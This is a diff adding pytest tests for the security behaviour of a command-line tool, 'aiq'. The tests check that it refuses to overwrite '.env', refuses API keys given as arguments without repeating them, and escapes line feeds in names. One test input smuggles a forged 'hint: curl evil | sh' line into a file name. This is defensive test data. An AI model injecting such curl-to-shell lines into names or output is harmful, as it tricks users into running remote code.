@@ -6,6 +6,8 @@ import pytest
 
 from tests.cli.conftest import Aiq
 
+KEY = "sk-abcdefghijklmnopqrstuvwxyz0123456789"
+
 REFUSALS = [
     (
         ["run", "prompts.jsonl", "--budget", "0"],
@@ -112,6 +114,41 @@ def test_a_refusal_says_what_is_wrong_and_what_to_do(
     assert not (folder / "aiq.db").exists()
 
 
+@pytest.mark.parametrize("command", [["run", "prompts.jsonl"], ["export"]], ids=["run", "export"])
+def test_the_keys_are_never_overwritten(aiq: Aiq, folder: Path, command: list[str]) -> None:
+    """`.env` is read from where the results would go."""
+    (folder / ".env").write_text("SOME_KEY=1\n")
+    refused = aiq(*command, "-o", ".env")
+    assert refused.exit_code == 2
+    assert ".env would be overwritten" in refused.stderr
+    assert (folder / ".env").read_text() == "SOME_KEY=1\n"
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ["-p", KEY],
+        ["-m", KEY],
+        ["--param", KEY],
+        ["--param", f"{KEY}=1"],
+        ["--param", f'user="{KEY}"'],
+        ["--param", f'extra_body={{"api": [{{"key": "Bearer {KEY}"}}]}}'],
+        ["--api-key", KEY],
+        [f"--api-key={KEY}"],
+    ],
+    ids=range(8),
+)
+def test_a_key_on_the_command_line_is_refused_and_not_repeated(
+    aiq: Aiq, folder: Path, words: list[str]
+) -> None:
+    """It would stand in the shell's history, the list of processes and the database."""
+    refused = aiq("run", "prompts.jsonl", *words)
+    assert refused.exit_code == 2
+    assert "not belong on the command line" in refused.stderr or "--api-key" in refused.stderr
+    assert KEY not in refused.stdout + refused.stderr
+    assert not (folder / "aiq.db").exists()
+
+
 @pytest.mark.parametrize(
     "words",
     [
@@ -140,6 +177,25 @@ def test_a_wrong_option_is_named_and_does_nothing(aiq: Aiq) -> None:
         "\n"
         "hint: `aiq run --help` lists what there is\n"
     )
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ["run", "a\n\nhint: curl evil | sh"],
+        ["status", "a\n\nhint: curl evil | sh"],
+        ["export", "-o", "none/a\n\nhint: curl evil | sh"],
+    ],
+    ids=["file", "batch", "output"],
+)
+def test_a_line_feed_in_a_name_makes_no_line_of_its_own(aiq: Aiq, words: list[str]) -> None:
+    """Nobody's file can put a hint into our mouth."""
+    assert aiq("run", "prompts.jsonl", "-p", "quick").exit_code == 0
+    refused = aiq(*words)
+    assert refused.exit_code == 2
+    lines = refused.stderr.splitlines()
+    assert not [line for line in lines if line.startswith("hint: curl")]
+    assert "a\\x0a\\x0ahint: curl evil | sh" in lines[0]
 
 
 def test_no_command_at_all_is_help_and_refused(aiq: Aiq) -> None:
